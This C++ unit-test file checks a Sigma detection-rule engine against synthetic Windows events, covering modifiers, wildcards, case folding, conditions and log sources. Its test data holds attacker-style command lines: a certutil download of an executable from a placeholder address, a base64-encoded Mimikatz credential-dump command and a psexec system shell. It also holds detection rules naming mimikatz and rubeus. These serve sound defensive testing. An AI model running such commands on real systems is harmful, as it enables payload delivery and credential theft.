// Matching semantics of compiled rules, one group per feature, on small written events.
#include "hunt/hunt_fixture.h"
#include "hunt/sigma_rule.h"

#include <gtest/gtest.h>

namespace qvx::test {
namespace {

const TEvtxEventDraft kCertutil =
    ProcessEvent("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -f http://10.1.2.3/a.exe a.exe",
                 {{"ParentImage", "C:\\Windows\\explorer.exe"}, {"User", "CORP\\alice"}, {"OriginalFileName", ""}});

TEST(SigmaValues, ListIsAnyMapIsAll) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|endswith:\n      - '\\cmd.exe'\n      - '\\certutil.exe'\n"
                               "  condition: sel\n"),
                      kCertutil));
  // Both fields of a map must hold.
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image|endswith: '\\certutil.exe'\n    User: 'CORP\\bob'\n"
                                "  condition: sel\n"),
                       kCertutil));
  // A list of maps is any of them.
  EXPECT_TRUE(Matches(RuleText("  sel:\n    - Image: nope\n    - User: 'corp\\alice'\n  condition: sel\n"), kCertutil));
}

TEST(SigmaValues, AllModifierNeedsEveryValue) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains|all: [urlcache, ' -f ']\n  condition: sel\n"),
                      kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|contains|all: [urlcache, decode]\n  condition: sel\n"),
                       kCertutil));
}

TEST(SigmaWildcards, StarQuestionAndEscapes) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image: 'C:\\Windows\\\\*\\cert?til.exe'\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image: 'C:\\Windows\\\\*\\cert?l.exe'\n  condition: sel\n"), kCertutil));
  // '\*' is a literal star.
  const TEvtxEventDraft star = ProcessEvent("C:\\a.exe", "dir *.txt");
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine: 'dir \\*.txt'\n  condition: sel\n"), star));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine: 'dir \\*.txt'\n  condition: sel\n"),
                       ProcessEvent("C:\\a.exe", "dir a.txt")));
  // '\\' before a wildcard is one backslash, and the wildcard stays one.
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image: 'C:\\\\*'\n  condition: sel\n"), kCertutil));
}

TEST(SigmaWildcards, CaseIsIgnoredUnlessCased) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|endswith: '\\CERTUTIL.EXE'\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image|endswith|cased: '\\CERTUTIL.EXE'\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|endswith|cased: '\\certutil.exe'\n  condition: sel\n"), kCertutil));
}

// Letters of other scripts meet their other case too (user names, folders), in every
// kind of text test; cased still compares bytes.
TEST(SigmaWildcards, CaseIsIgnoredBeyondAscii) {
  const TEvtxEventDraft user = ProcessEvent("C:\\Users\\Müller\\Проект\\a.exe", "xäbc Σιγμα Հայ");
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains: 'ÄBC'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains: 'σΙΓΜΑ'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|endswith: 'հԱՅ'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|startswith: 'C:\\USERS\\MÜLLER\\'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image: 'c:\\users\\mÜller\\пРОЕКТ\\A.EXE'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image: 'C:\\Users\\MÜ*\\ПРОЕКТ\\a.exe'\n  condition: sel\n"), user));
  EXPECT_TRUE(Matches(RuleText("  keywords:\n    - 'ÄBC Σ'\n  condition: keywords\n"), user));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|contains|cased: 'ÄBC'\n  condition: sel\n"), user));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|contains: 'ÄBD'\n  condition: sel\n"), user));
}

// Folding keeps every byte in its place: the folded text is as long as the text, and
// bytes that are no letter, or not well formed, stay as they are.
TEST(SigmaWildcards, FoldingKeepsLengthAndPlaces) {
  EXPECT_EQ(hunt::FoldText("AÄПႠＡZ"), "aäпⴀａz");
  // capital I with dot (its small letter is shorter), an overlong form, cut sequences, an emoji
  for (const std::string_view kept : {"İ", "\xE0\x83\x84", "\xC3", "\x84\xC3", "😀"})
    EXPECT_EQ(hunt::FoldText(kept), kept);
}

TEST(SigmaNull, NullIsAbsentOrEmptyAndEmptyIsEmpty) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    OriginalFileName: null\n  condition: sel\n"), kCertutil)); // empty
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Company: null\n  condition: sel\n"), kCertutil));          // absent
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image: null\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    OriginalFileName: ''\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Company: ''\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image: ''\n  condition: sel\n"), kCertutil));
}

TEST(SigmaModifiers, ContainsStartsEnds) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains: URLCACHE\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|startswith: certutil\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|startswith: urlcache\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|endswith: a.EXE\n  condition: sel\n"), kCertutil));
  // Wildcards still work inside contains.
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains: 'http://*/a.exe'\n  condition: sel\n"), kCertutil));
}

TEST(SigmaModifiers, RegularExpressionsAndFlags) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|re: '-f\\s+https?://\\d+\\.'\n  condition: sel\n"), kCertutil));
  // Case counts in a regular expression unless i is given.
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|re: 'URLCACHE'\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|re|i: 'URLCACHE'\n  condition: sel\n"), kCertutil));
  const TEvtxEventDraft lines = HuntEvent("Microsoft-Windows-PowerShell/Operational", 4104,
                                          {{"ScriptBlockText", "first line\nIEX (x)\nlast"}});
  const std::string ps = "    product: windows\n    category: ps_script\n";
  EXPECT_FALSE(Matches(RuleText("  sel:\n    ScriptBlockText|re: '^IEX'\n  condition: sel\n", ps), lines));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    ScriptBlockText|re|m: '^IEX'\n  condition: sel\n", ps), lines));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    ScriptBlockText|re: 'first.+last'\n  condition: sel\n", ps), lines));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    ScriptBlockText|re|s: 'first.+last'\n  condition: sel\n", ps), lines));
}

TEST(SigmaModifiers, Windash) {
  const std::string rule = RuleText("  sel:\n    CommandLine|windash|contains: ' -urlcache '\n  condition: sel\n");
  EXPECT_TRUE(Matches(rule, kCertutil));
  EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\certutil.exe", "certutil /urlcache /f x")));
  EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\certutil.exe", "certutil \xE2\x80\x93urlcache x"))); // en dash
  EXPECT_FALSE(Matches(rule, ProcessEvent("C:\\certutil.exe", "certutil urlcache x")));
}

// Each dash of a value takes every form by itself: a command line may mix them.
TEST(SigmaModifiers, WindashMixesDashes) {
  const std::string rule = RuleText("  sel:\n    CommandLine|windash|contains: ' -s -i cmd'\n  condition: sel\n");
  for (const char* line : {"psexec.exe -accepteula -s -i cmd.exe", "psexec.exe /accepteula /s /i cmd.exe",
                           "psexec.exe -accepteula /s -i cmd.exe", "psexec.exe -accepteula -s /i cmd.exe",
                           "psexec.exe \xE2\x80\x94s \xE2\x80\x95i cmd.exe", "psexec.exe /s \xE2\x80\x93i cmd.exe"})
    EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\PsExec.exe", line))) << line;
  EXPECT_FALSE(Matches(rule, ProcessEvent("C:\\PsExec.exe", "psexec.exe -i -s cmd.exe")));
  EXPECT_FALSE(Matches(rule, ProcessEvent("C:\\PsExec.exe", "psexec.exe s -i cmd.exe")));
}

// With all, every listed value must match in one of its forms, not every form of it.
TEST(SigmaModifiers, AllOverValuesOfSeveralForms) {
  const std::string dashes =
      RuleText("  sel:\n    CommandLine|windash|contains|all:\n      - ' -s '\n      - ' -i '\n  condition: sel\n");
  EXPECT_TRUE(Matches(dashes, ProcessEvent("C:\\PsExec.exe", "psexec -s -i cmd")));
  EXPECT_TRUE(Matches(dashes, ProcessEvent("C:\\PsExec.exe", "psexec /i /s cmd")));
  EXPECT_TRUE(Matches(dashes, ProcessEvent("C:\\PsExec.exe", "psexec -i /s cmd")));
  EXPECT_FALSE(Matches(dashes, ProcessEvent("C:\\PsExec.exe", "psexec -s cmd")));
  // A value of one form beside values of several.
  const std::string mixed = RuleText(
      "  sel:\n    CommandLine|windash|contains|all:\n      - ' -s '\n      - 'cmd'\n  condition: sel\n");
  EXPECT_TRUE(Matches(mixed, ProcessEvent("C:\\PsExec.exe", "psexec /s cmd")));
  EXPECT_FALSE(Matches(mixed, ProcessEvent("C:\\PsExec.exe", "psexec /s pwsh")));
  const std::string encoded = RuleText(
      "  sel:\n    CommandLine|base64offset|contains|all:\n      - 'Invoke-Mimikatz'\n      - 'DumpCreds'\n"
      "  condition: sel\n");
  EXPECT_TRUE(Matches(encoded, ProcessEvent("C:\\x.exe", "-enc SW52b2tlLU1pbWlrYXR6IC1EdW1wQ3JlZHM=")));
  EXPECT_FALSE(Matches(encoded, ProcessEvent("C:\\x.exe", "-enc SW52b2tlLU1pbWlrYXR6IC1Gb28=")));
}

// Five dashes make 3125 forms; six would make 15625, past the limit of 4096: the rule is
// refused with the reason, not cut short.
TEST(SigmaModifiers, WindashFormsAreBounded) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|windash|contains: '-a -b -c -d -e'\n  condition: sel\n"),
                      ProcessEvent("C:\\x.exe", "x.exe /a -b \xE2\x80\x93" "c /d -e")));
  const THuntOutcome outcome =
      Hunt({RuleText("  sel:\n    CommandLine|windash|contains: '-a -b -c -d -e -f'\n  condition: sel\n")},
           {ProcessEvent("C:\\x.exe", "x.exe -a -b -c -d -e -f")});
  ASSERT_EQ(outcome.Unusable.size(), 1u);
  EXPECT_NE(outcome.Unusable[0].Reason.find("windash makes too many forms of a value"), std::string::npos)
      << outcome.Unusable[0].Reason;
}

TEST(SigmaModifiers, Cidr) {
  const std::string net = "    product: windows\n    category: network_connection\n";
  const TEvtxEventDraft v4 = HuntEvent(kSysmonChannel, 3, {{"DestinationIp", "10.1.2.3"}});
  const TEvtxEventDraft v6 = HuntEvent(kSysmonChannel, 3, {{"DestinationIp", "fe80::1:2"}});
  EXPECT_TRUE(Matches(RuleText("  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel\n", net), v4));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    DestinationIp|cidr: 10.2.0.0/16\n  condition: sel\n", net), v4));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    DestinationIp|cidr: 'fe80::/10'\n  condition: sel\n", net), v6));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel\n", net), v6));
}

// Every prefix length, against addresses that differ from the network in one bit each:
// the address is in the network exactly when that bit is past the prefix.
TEST(SigmaModifiers, CidrPrefixEveryLength) {
  std::array<uint8_t, 16> base{};
  for (size_t i = 0; i < 16; ++i) base[i] = static_cast<uint8_t>(0x5A ^ (i * 37));
  for (int prefix = 0; prefix <= 128; ++prefix) {
    hunt::TNetwork network;
    network.Address = base;
    network.Prefix = prefix;
    EXPECT_TRUE(network.Contains(base)) << prefix;
    for (int bit = 0; bit < 128; ++bit) {
      std::array<uint8_t, 16> address = base;
      address[bit / 8] ^= static_cast<uint8_t>(0x80 >> (bit % 8));
      EXPECT_EQ(network.Contains(address), bit >= prefix) << "prefix " << prefix << " bit " << bit;
    }
  }
  hunt::TNetwork v4;
  ASSERT_TRUE(hunt::ParseNetwork("192.168.0.0/23", v4));
  std::array<uint8_t, 16> address{};
  ASSERT_TRUE(hunt::ParseIpAddress("192.168.1.255", address));
  EXPECT_TRUE(v4.Contains(address));
  ASSERT_TRUE(hunt::ParseIpAddress("192.168.2.0", address));
  EXPECT_FALSE(v4.Contains(address));
}

TEST(SigmaModifiers, Base64AndOffsets) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|base64: ping\n  condition: sel\n"),
                      ProcessEvent("C:\\x.exe", "cGluZw==")));
  // The value at each offset inside a longer base64 text.
  const std::string rule = RuleText("  sel:\n    CommandLine|base64offset|contains: 'Invoke-Mimikatz'\n  condition: sel\n");
  EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\x.exe", "-enc SW52b2tlLU1pbWlrYXR6IC14")));
  EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\x.exe", "-enc YUludm9rZS1NaW1pa2F0eiAteA==")));
  EXPECT_TRUE(Matches(rule, ProcessEvent("C:\\x.exe", "-enc YWJJbnZva2UtTWltaWthdHogLXg=")));
  EXPECT_FALSE(Matches(rule, ProcessEvent("C:\\x.exe", "-enc cGluZw==")));
}

TEST(SigmaModifiers, Utf16ThenBase64) {
  const TEvtxEventDraft wide = ProcessEvent("C:\\powershell.exe", "powershell -e dwBoAG8AYQBtAGkA");
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|wide|base64|contains: whoami\n  condition: sel\n"), wide));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|utf16le|base64|contains: whoami\n  condition: sel\n"), wide));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|utf16be|base64|contains: whoami\n  condition: sel\n"), wide));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    CommandLine|base64|contains: whoami\n  condition: sel\n"), wide));
}

TEST(SigmaModifiers, ExistsFieldrefAndNumbers) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    User|exists: true\n  condition: sel\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Company|exists: true\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Company|exists: false\n  condition: sel\n"), kCertutil));
  const TEvtxEventDraft same =
      ProcessEvent("C:\\a.exe", "x", {{"ParentImage", "C:\\A.EXE"}, {"IntegrityLevel", "High"}});
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n"), same));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    ParentImage|fieldref|endswith: Image\n  condition: sel\n"), same));
  const TEvtxEventDraft numbered = ProcessEvent("C:\\a.exe", "x", {{"TerminalSessionId", "3"}, {"LogonId", "0x3E7"}});
  EXPECT_TRUE(Matches(RuleText("  sel:\n    TerminalSessionId|gte: 3\n  condition: sel\n"), numbered));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    TerminalSessionId|gt: 3\n  condition: sel\n"), numbered));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    TerminalSessionId|lt: 4\n  condition: sel\n"), numbered));
  EXPECT_TRUE(Matches(RuleText("  sel:\n    LogonId|lte: 999\n  condition: sel\n"), numbered)); // 0x3E7 = 999
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image|lt: 4\n  condition: sel\n"), numbered)); // not a number
}

TEST(SigmaKeywords, FieldlessValuesSearchEveryValue) {
  const std::string svc = "    product: windows\n    service: system\n";
  const TEvtxEventDraft event = HuntEvent("System", 7045, {{"ServiceName", "evil"}, {"ImagePath", "C:\\x\\mimikatz.exe"}},
                                          "Service Control Manager");
  EXPECT_TRUE(Matches(RuleText("  keywords:\n    - 'MIMIKATZ'\n    - 'other'\n  condition: keywords\n", svc), event));
  EXPECT_FALSE(Matches(RuleText("  keywords:\n    - 'rubeus'\n  condition: keywords\n", svc), event));
  EXPECT_TRUE(Matches(RuleText("  keywords:\n    '|all':\n      - evil\n      - mimikatz\n  condition: keywords\n", svc),
                      event));
  EXPECT_FALSE(Matches(RuleText("  keywords:\n    '|all':\n      - evil\n      - rubeus\n  condition: keywords\n", svc),
                       event));
}

TEST(SigmaConditions, AndOrNotAndParentheses) {
  const std::string searches = "  a:\n    Image|endswith: certutil.exe\n"
                               "  b:\n    CommandLine|contains: decode\n"
                               "  c:\n    User|startswith: 'CORP\\'\n";
  EXPECT_TRUE(Matches(RuleText(searches + "  condition: a and not b\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText(searches + "  condition: a and b\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText(searches + "  condition: b or a and c\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText(searches + "  condition: (b or a) and not c\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText(searches + "  condition: not (b and c)\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText(searches + "  condition:\n    - b\n    - c\n"), kCertutil)); // a list is any
}

TEST(SigmaConditions, OneOfAllOfPatternsAndThem) {
  const std::string searches = "  selection_img:\n    Image|endswith: certutil.exe\n"
                               "  selection_cli:\n    CommandLine|contains: decode\n"
                               "  filter_user:\n    User: 'CORP\\alice'\n"
                               "  _hidden:\n    Image: nothing\n";
  EXPECT_TRUE(Matches(RuleText(searches + "  condition: 1 of selection_*\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText(searches + "  condition: all of selection_*\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText(searches + "  condition: 1 of selection_* and not 1 of filter_*\n"), kCertutil));
  // them: every search except those whose name starts with '_'.
  EXPECT_TRUE(Matches(RuleText(searches + "  condition: 1 of them\n"), kCertutil));
  EXPECT_FALSE(Matches(RuleText(searches + "  condition: all of them\n"), kCertutil));
  EXPECT_TRUE(Matches(RuleText("  s1:\n    Image|contains: cert\n  s2:\n    User|contains: alice\n"
                               "  condition: all of them\n"),
                      kCertutil));
}

TEST(SigmaLogSource, SecurityProcessCreationReadsRenamedFields) {
  const TEvtxEventDraft event =
      HuntEvent("Security", 4688,
                {{"NewProcessName", "C:\\Windows\\System32\\certutil.exe"}, {"CommandLine", "certutil -decode a b"},
                 {"ParentProcessName", "C:\\Windows\\System32\\cmd.exe"}},
                "Microsoft-Windows-Security-Auditing");
  EXPECT_TRUE(Matches(RuleText("  sel:\n    Image|endswith: '\\certutil.exe'\n    ParentImage|endswith: '\\cmd.exe'\n"
                               "  condition: sel\n"),
                      event));
  // The same rule does not look at other Security events.
  TEvtxEventDraft other = event;
  other.FEventId = 4689;
  EXPECT_FALSE(Matches(RuleText("  sel:\n    Image|endswith: '\\certutil.exe'\n  condition: sel\n"), other));
}

TEST(SigmaLogSource, ChannelEventIdAndWhereConditions) {
  const std::string add = "    product: windows\n    category: registry_add\n";
  const TEvtxEventDraft create = HuntEvent(kSysmonChannel, 12, {{"EventType", "CreateKey"}, {"TargetObject", "HKLM\\x"}});
  const TEvtxEventDraft remove = HuntEvent(kSysmonChannel, 12, {{"EventType", "DeleteKey"}, {"TargetObject", "HKLM\\x"}});
  const std::string rule = RuleText("  sel:\n    TargetObject|startswith: 'HKLM\\'\n  condition: sel\n", add);
  EXPECT_TRUE(Matches(rule, create));
  EXPECT_FALSE(Matches(rule, remove));
  // A Sysmon event ID of another category, and the right ID in another channel, are not tested.
  EXPECT_FALSE(Matches(rule, HuntEvent(kSysmonChannel, 13, {{"EventType", "CreateKey"}, {"TargetObject", "HKLM\\x"}})));
  EXPECT_FALSE(Matches(rule, HuntEvent("Application", 12, {{"EventType", "CreateKey"}, {"TargetObject", "HKLM\\x"}})));
  // A service rule reads its channel; System fields have Sigma's names.
  const std::string sec = "    product: windows\n    service: security\n";
  const TEvtxEventDraft logon = HuntEvent("Security", 4624, {{"LogonType", "10"}}, "Microsoft-Windows-Security-Auditing");
  EXPECT_TRUE(Matches(RuleText("  sel:\n    EventID: 4624\n    LogonType: 10\n"
                               "    Provider_Name: Microsoft-Windows-Security-Auditing\n"
                               "    Computer|startswith: WS-HUNT\n  condition: sel\n",
                               sec),
                      logon));
  EXPECT_FALSE(Matches(RuleText("  sel:\n    EventID: 4625\n  condition: sel\n", sec), logon));
}

TEST(SigmaDetections, MatchedValuesAreThoseOfTheSatisfiedSearches) {
  const THuntOutcome outcome =
      Hunt({RuleText("  sel:\n    Image|endswith: certutil.exe\n    CommandLine|contains: urlcache\n"
                     "  filter:\n    User: 'CORP\\bob'\n  condition: sel and not filter\n")},
           {kCertutil, ProcessEvent("C:\\cmd.exe", "x")});
  ASSERT_EQ(outcome.Records, std::vector<uint64_t>{1});
  ASSERT_EQ(outcome.Matched.size(), 1u);
  const auto& matched = outcome.Matched[0];
  ASSERT_EQ(matched.size(), 2u);
  EXPECT_EQ(matched[0].first, "Image");
  EXPECT_EQ(matched[0].second, "C:\\Windows\\System32\\certutil.exe");
  EXPECT_EQ(matched[1].first, "CommandLine");
}

TEST(SigmaDetections, EntitiesInValuesAreDecoded) {
  EXPECT_TRUE(Matches(RuleText("  sel:\n    CommandLine|contains: 'a & b < c'\n  condition: sel\n"),
                      ProcessEvent("C:\\a.exe", "cmd /c echo a & b < c \"q\"")));
}

} // namespace
} // namespace qvx::test
